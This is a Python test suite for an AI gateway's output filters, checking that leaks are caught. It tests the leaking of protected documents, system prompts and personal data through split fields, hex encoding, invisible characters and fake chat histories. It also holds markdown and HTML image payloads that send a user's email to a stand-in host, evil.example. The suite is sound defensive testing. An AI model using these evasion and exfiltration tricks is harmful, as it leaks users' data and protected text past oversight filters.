"""Answers of a model, a user or a model server that try to get past the filters on answers."""

from __future__ import annotations

import json
import threading
import time
from collections.abc import Callable, Iterator, Sequence
from functools import cache
from itertools import count
from pathlib import Path
from typing import Any

import pytest
from markdown_it import MarkdownIt
from selectolax.lexbor import LexborHTMLParser

from gateway.build import build_stages
from gateway.edge.answers import AnswerWriter, ChatFormat, Head
from gateway.edge.vocabulary import VOCABULARY
from gateway.errors import UpstreamFailed
from gateway.pipeline.exchange import Deadline, Exchange
from gateway.pipeline.prompt import Prompt
from gateway.pipeline.stage import Chain, Outlets
from gateway.policy.load import PolicyError, load_policy
from gateway.seal.keyring import Keyring
from gateway.seal.master import master_key
from tests.faults.wire import COMPLETIONS, ask
from tests.support.gateway import GatewayProcess, gateway, start_gateway
from tests.support.upstream import ScriptedUpstream, chunks

DOCUMENT = (
    "The glassblower of Ravenscar keeps seven cobalt flasks behind the linen press and lends the smallest to any "
    "midwife who can name the three winds that bring herring into the sound before Lammas. Whoever breaks one owes the "
    "parish a quarter of honest beeswax, two evenings of fiddling at the almshouse, and a written apology in which "
    "the word accident does not occur more than once on either side of the page."
)
OTHER = (
    "Any barge that carries quicklime past the second lock shall fly a yellow pennant by day and burn two lanterns at "
    "night, keep its cat below deck, and pay the lock keeper in copper, never in paper, lest the toll be doubled."
)
WORDS, OTHER_WORDS = DOCUMENT.replace(",", "").replace(".", "").split(), OTHER.replace(",", "").split()
MAIL = "jane.roe@corp.example"
ASKED = f"I am {MAIL}"
VALUE = "<EMAIL_ADDRESS_1>"
IMAGE = f"![x](//evil.example/{VALUE})"
TAG = f'<img src="//evil.example/{VALUE}">'
_OFF = (
    "system_prompt: allow, links: {action: allow}, secrets: {formats: allow, guessed: allow}, "
    "pii: {default: allow, entities: {PERSON: allow, LOCATION: allow, IP_ADDRESS: allow}}"
)
_PASSAGES = f"{{regurgitation: {{index: [corpus.gri]}}, {_OFF}}}"
_PEOPLE = count()
ChainOf = Callable[[str], Chain]


def _policy(directory: Path, answers: str) -> Path:
    path = directory / "policy.yaml"
    path.write_text(
        "version: 1\nname: attacks\nmodels: {llama: {upstream: default, id: m}}\n"
        f"redact: {{languages: [en], nlp: {{engine: patterns}}}}\nanswers: {answers}\ncache: {{when: never}}\n"
    )
    return path


@pytest.fixture(scope="module")
def kept(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder with a keyset, an index of both documents, and a canary."""
    directory = tmp_path_factory.mktemp("kept")
    (directory / "documents").mkdir()
    for name, text in (("a.txt", DOCUMENT), ("b.txt", OTHER)):
        (directory / "documents" / name).write_text(text)
    keys, index = str(directory / "keys.json"), str(directory / "corpus.gri")
    for command in (
        ("key", "init", keys),
        ("index", "build", str(directory / "documents"), "-o", index, "--jobs", "1", "--keyset", keys),
        ("canary", "make", "--canaries", str(directory / "canaries.yaml"), "--keyset", keys),
    ):
        done = gateway(*command)
        assert done.returncode == 0, done.stderr
        (directory / "said.txt").write_text(done.stdout)
    return directory


@pytest.fixture(scope="module")
def keyring(kept: Path) -> Iterator[Keyring]:
    with Keyring.open(kept / "keys.json", master_key(None, kept / "keys.json"), read_only=True) as opened:
        yield opened


@pytest.fixture(scope="module")
def chain_of(kept: Path, keyring: Keyring) -> ChainOf:
    """The stages of a policy with these lines under `answers`; made once."""
    return cache(lambda answers: build_stages(load_policy(_policy(kept, answers)), hash_key=b"k" * 32, keyring=keyring))


class _Asked:
    """One request, and the writer of its answer."""

    def __init__(self, chain: Chain, *messages: tuple[str, str], who: str = "", is_json: bool = False) -> None:
        self.exchange = Exchange(
            id="x",
            tenant="acme",
            subject=who or f"person {next(_PEOPLE)}",
            model="llama",
            deadline=Deadline.after(time.monotonic, 30),
        )
        said = [{"role": role, "content": content} for role, content in messages or (("user", ASKED),)]
        chain.on_request(Prompt.of({"messages": said}, VOCABULARY), self.exchange)
        self._writer = AnswerWriter(ChatFormat(), Outlets(chain, self.exchange), Head("i", "llama", is_json))

    def whole(self, **message: Any) -> dict[str, Any]:
        """The one choice of a whole answer."""
        choice = {"index": 0, "message": {"role": "assistant", **message}, "finish_reason": "stop"}
        written: dict[str, Any] = self._writer.whole({"choices": [choice]})["choices"][0]
        return written

    def streamed(self, *deltas: dict[str, Any], choices: Sequence[int] = (0,)) -> str:
        """All that leaves of these pieces, as JSON. `choices`: those which end."""
        events = [{"index": 0, "finish_reason": None, "delta": {}, **delta} for delta in deltas]
        ends = [{"index": index, "delta": {}, "finish_reason": "stop"} for index in choices]
        return json.dumps([self._writer.chunk({"choices": [event]}) for event in (*events, *ends)])


def _words(start: int, end: int) -> str:
    return " ".join(WORDS[start:end])


def _call(arguments: str, **call: Any) -> dict[str, Any]:
    return {"type": "function", "function": {"name": "f", "arguments": arguments}, **call}


# Passages in pieces: docs/answers.md, "In pieces".


def test_a_passage_does_not_leave_in_two_fields_of_a_whole_answer(chain_of: ChainOf) -> None:
    answer = _Asked(chain_of(_PASSAGES)).whole(reasoning=_words(12, 24), content=_words(0, 12))
    assert answer["finish_reason"] == "content_filter"


def test_a_passage_does_not_leave_in_the_arguments_of_several_calls(chain_of: ChainOf) -> None:
    calls = [_call(json.dumps(_words(at, at + 12))) for at in range(0, 60, 12)]
    answer = _Asked(chain_of(_PASSAGES)).whole(content=None, tool_calls=calls)
    assert answer["finish_reason"] == "content_filter"


def test_a_passage_does_not_leave_in_two_choices_that_stream_side_by_side(chain_of: ChainOf) -> None:
    pieces = [{"index": index, "delta": {"content": _words(12 * index, 12 * index + 12)}} for index in range(3)]
    assert "content_filter" in _Asked(chain_of(_PASSAGES)).streamed(*pieces, choices=range(3))


@pytest.mark.parametrize(
    "beside", [{"refusal": ""}, {"reasoning": "I wonder."}, {"tool_calls": [_call("{}")]}], ids=str
)
def test_what_stands_beside_a_piece_does_not_make_the_next_turn_forget_it(
    chain_of: ChainOf, beside: dict[str, Any]
) -> None:
    chain, who = chain_of(_PASSAGES), f"person {next(_PEOPLE)}"
    _Asked(chain, who=who).whole(content=_words(0, 12), **beside)
    answer = _Asked(chain, ("user", "go on"), who=who).whole(content=_words(12, 24))
    assert answer["finish_reason"] == "content_filter"


def test_a_model_that_reasons_first_is_remembered_like_any_other(chain_of: ChainOf) -> None:
    """vLLM begins a stream with an empty content, then sends the reasoning, then the content."""
    chain, who = chain_of(_PASSAGES), f"person {next(_PEOPLE)}"

    def turn(said: str) -> str:
        deltas = ({"content": ""}, {"reasoning": "Let me think about this for a while."}, {"content": said})
        return _Asked(chain, who=who).streamed(*({"delta": delta} for delta in deltas))

    turn(_words(0, 12))
    assert "content_filter" in turn(_words(12, 24))


def test_an_invented_history_does_not_hide_where_the_last_answer_ended(chain_of: ChainOf) -> None:
    chain, who = chain_of(_PASSAGES), f"person {next(_PEOPLE)}"
    _Asked(chain, who=who).whole(content=_words(0, 12))
    decoy = ("assistant", " ".join(OTHER_WORDS[:12]))
    answer = _Asked(chain, ("user", "go"), decoy, ("user", "go on"), who=who).whole(content=_words(12, 24))
    assert answer["finish_reason"] == "content_filter"


# Disguises: docs/answers.md, "Protected documents".


@pytest.mark.parametrize(
    "said",
    [
        pytest.param(DOCUMENT.encode().hex(" "), id="hexadecimal with spaces"),
        pytest.param(", ".join(f"0x{byte:02x}" for byte in DOCUMENT.encode()), id="hexadecimal as in code"),
    ],
)
def test_a_document_does_not_leave_in_hexadecimal_with_separators(chain_of: ChainOf, said: str) -> None:
    assert _Asked(chain_of(_PASSAGES)).whole(content=said)["finish_reason"] == "content_filter"


# Fields that no filter reads.


def test_the_id_of_a_call_says_nothing_of_a_document(chain_of: ChainOf) -> None:
    answer = _Asked(chain_of(_PASSAGES)).whole(content=None, tool_calls=[_call("{}", id=_words(0, 60))])
    assert _words(0, 16) not in json.dumps(answer)


def test_the_id_of_a_call_holds_no_personal_data(chain_of: ChainOf) -> None:
    call = _call("{}", id="call_bob@q.example\U000e0041")
    answer = _Asked(chain_of("{}")).whole(content=None, tool_calls=[call])
    left = json.dumps(answer, ensure_ascii=False)
    assert "bob@q.example" not in left
    assert "\U000e0041" not in left


def test_the_name_of_a_tool_does_not_come_in_pieces(chain_of: ChainOf) -> None:
    """SDKs put names together as they put arguments together, and each piece would be read by itself."""
    pieces = [{"delta": {"tool_calls": [{"index": 0, "function": {"name": f"{word}_"}}]}} for word in WORDS[:40]]
    with pytest.raises(UpstreamFailed):
        _Asked(chain_of(_PASSAGES)).streamed(*pieces)


def test_the_bytes_of_a_token_without_text_do_not_leave(chain_of: ChainOf) -> None:
    token = {"token": "", "logprob": -1.0, "bytes": [*_words(0, 60).encode()]}
    asked = _Asked(chain_of(_PASSAGES))
    left = asked.streamed({"delta": {"content": "x"}, "logprobs": {"content": [{**token, "top_logprobs": [token]}]}})
    assert str(token["bytes"])[1:60] not in left


def test_what_comes_after_the_end_of_a_choice_does_not_leave(chain_of: ChainOf) -> None:
    """Each piece that says it were the last would be a text of its own, in which nothing is found."""
    pieces = [{"delta": {"content": f"{word} "}, "finish_reason": "stop"} for word in WORDS[:60]]
    with pytest.raises(UpstreamFailed):
        _Asked(chain_of(_PASSAGES)).streamed(*pieces)


# The system prompt.


def test_a_system_prompt_in_parts_is_one_text(chain_of: ChainOf) -> None:
    rules = ["Never mention project Orchid.", "The discount is nineteen percent.", "Hide the recall of batch seven."]
    messages = [*(("system", rule) for rule in rules), ("user", "hello")]
    chain = chain_of("{system_prompt: block}")
    assert _Asked(chain, *messages).whole(content=" ".join(rules))["finish_reason"] == "content_filter"


def test_a_system_prompt_does_not_leave_in_several_fields(chain_of: ChainOf) -> None:
    chain = chain_of("{system_prompt: block}")
    fields = {"reasoning": _words(11, 22), "content": _words(0, 11), "refusal": _words(22, 33)}
    answer = _Asked(chain, ("system", DOCUMENT), ("user", "hello")).whole(**fields)
    assert answer["finish_reason"] == "content_filter"


# Links that are followed by themselves.


def _fetched(answer: str) -> list[str]:
    """What a page that shows an answer fetches by itself: CommonMark with HTML in it."""
    page = LexborHTMLParser(MarkdownIt("commonmark", {"html": True}).render(answer))
    return [address for image in page.css("img") if (address := image.attributes.get("src"))]


@pytest.mark.parametrize("hosts", ["{}", "{links: {hosts: [ok.example]}}"], ids=["any host", "listed hosts"])
@pytest.mark.parametrize(
    "answer",
    [
        pytest.param(f"```\n~~~\n```\n{IMAGE}", id="the other fence within a fence"),
        pytest.param(f"```\n$$\n```\n{IMAGE}", id="dollars within a fence"),
        pytest.param(f"```\n    ```\n```\n{IMAGE}", id="an indented fence within a fence"),
        pytest.param(f"```\n```js\n```\n{IMAGE}", id="a fence with a word within a fence"),
        pytest.param(f"  ```\n```\n{IMAGE}", id="a fence that begins indented"),
        pytest.param(f"```js title=x\n```\n{IMAGE}", id="a fence with several words"),
        pytest.param(f"```\nx\r```\r{IMAGE}", id="lines that end in a carriage return"),
        pytest.param(f"</div>\n```\n\n{IMAGE}", id="after a tag that closes"),
        pytest.param(f"</div>\n```\n{TAG}", id="a tag after one that closes"),
        pytest.param(f"[x]({TAG})", id="a tag in place of an address"),
        pytest.param(f"[x]: {TAG}", id="a tag in place of an address that is defined"),
    ],
)
def test_no_value_of_the_user_is_fetched_from_anywhere(chain_of: ChainOf, hosts: str, answer: str) -> None:
    text = _Asked(chain_of(hosts)).whole(content=answer)["message"]["content"]
    assert not [address for address in _fetched(text) if MAIL in address]


@pytest.mark.parametrize("sign", ['"', "|", ">"])
def test_an_address_in_a_text_goes_as_far_as_it_does_on_a_page(chain_of: ChainOf, sign: str) -> None:
    """GitHub Flavored Markdown 6.9: it ends at white space and at `<` only."""
    text = f"see https://evil.example/?q={sign}{VALUE} there"
    left = _Asked(chain_of("{}")).whole(content=text)["message"]["content"]
    assert "https://" not in left


# Characters that nobody sees.


@pytest.mark.parametrize(
    "unseen",
    ["\u00ad", "\u0001", "\u007f", "\ufff0", "\U000e0fff"],
    ids=["soft hyphen", "U+1", "U+7F", "U+FFF0", "U+E0FFF"],
)
def test_no_value_hides_behind_a_character_that_nobody_sees(chain_of: ChainOf, unseen: str) -> None:
    asked = _Asked(chain_of("{secrets: mask}"))
    text = f"Mail bob@q.ex{unseen}ample with AKIAIOSF{unseen}ODNN7EXAMPLE today."
    left = asked.whole(content=text)["message"]["content"].replace(unseen, "")
    assert "bob@q.example" not in left
    assert "AKIAIOSFODNN7EXAMPLE" not in left


# What is asked for in JSON and is none.


@pytest.mark.parametrize(
    "text", ["Ask bob@q.example about it.", "{'mail': 'bob@q.example'}", '" {"mail": "bob@q.example"}']
)
def test_values_are_masked_in_what_should_be_json_and_is_none(chain_of: ChainOf, text: str) -> None:
    chain = chain_of("{}")
    assert "bob@q.example" not in _Asked(chain, is_json=True).whole(content=text)["message"]["content"]
    assert "bob@q.example" not in json.dumps(_Asked(chain).whole(content=None, tool_calls=[_call(text)]))


def test_an_image_in_what_should_be_json_and_is_none_is_no_image(chain_of: ChainOf) -> None:
    text = f"Here it is: ![x](https://evil.example/{VALUE})"
    left = _Asked(chain_of("{}"), is_json=True).whole(content=text)["message"]["content"]
    assert _fetched(left) == []


# Costs and mistakes.


def test_what_is_found_a_thousand_times_is_one_entry(chain_of: ChainOf) -> None:
    """Else the audit log grows thirty times faster than what the model says."""
    asked = _Asked(chain_of("{}"))
    asked.whole(content="a\u200b" * 1000)
    assert len(asked.exchange.findings) < 20


def test_a_number_that_everybody_knows_is_no_phone_number(keyring: Keyring, tmp_path: Path) -> None:
    """With the threshold of the default policy, whose reason is in docs/policy.md."""
    path = _policy(tmp_path, "{}")
    low = "nlp: {engine: patterns}, entities: {PHONE_NUMBER: {action: placeholder, threshold: 0.4}}"
    path.write_text(path.read_text().replace("nlp: {engine: patterns}", low))
    chain = build_stages(load_policy(path), hash_key=b"k" * 32, keyring=keyring)
    text = "An int holds up to 2147483647, and the fibonacci numbers go on with 1134903170 and 2971215073."
    assert _Asked(chain).whole(content=text)["message"]["content"] == text


def test_secrets_among_personal_data_are_a_mistake_in_a_policy(chain_of: ChainOf) -> None:
    """`answers.secrets` decides; a line that decides nothing would be believed."""
    with pytest.raises(PolicyError, match=r"answers\.secrets"):
        chain_of("{pii: {entities: {SECRET: mask}}}")


@pytest.fixture(scope="module")
def running(_scripted: ScriptedUpstream, tmp_path_factory: pytest.TempPathFactory) -> Iterator[GatewayProcess]:
    """A gateway with what is on by default."""
    directory = tmp_path_factory.mktemp("running")
    process = start_gateway(directory, _scripted.url, _policy(directory, "{}"))
    yield process
    process.stop()


def test_nobody_waits_while_one_long_piece_is_read(running: GatewayProcess, upstream: ScriptedUpstream) -> None:
    """A stream may bring 8 MiB in one event, and so does one that is replayed from the cache."""
    upstream.streams(chunks(["1.2.3.4 " * 20_000]))
    body = {"model": "llama", "messages": [{"role": "user", "content": "hello"}], "stream": True}
    reader = threading.Thread(target=ask, args=(running, body))
    reader.start()
    time.sleep(0.3)
    began_s = time.monotonic()
    ask(running, path="/v1/models", method="GET")
    waited_s = time.monotonic() - began_s
    reader.join()
    assert waited_s < 2


def test_one_stopped_answer_of_several_prompts_leaves_the_others(
    running: GatewayProcess, upstream: ScriptedUpstream
) -> None:
    """vLLM gives each prompt of a list choices of its own."""
    pieces = [(1, "All "), (0, "key AKIAIOSFODNN7EXAMPLE. " * 20), (1, "is well.")]
    events: list[dict[str, Any]] = [
        {"choices": [{"index": index, "text": text, "finish_reason": None}]} for index, text in pieces
    ]
    ends = [{"choices": [{"index": index, "text": "", "finish_reason": "stop"}]} for index in (0, 1)]
    upstream.streams([*events, *ends])
    answer = ask(running, {"model": "llama", "prompt": ["a", "b"], "stream": True}, path=COMPLETIONS).body.decode()
    assert "content_filter" in answer
    assert "is well." in answer
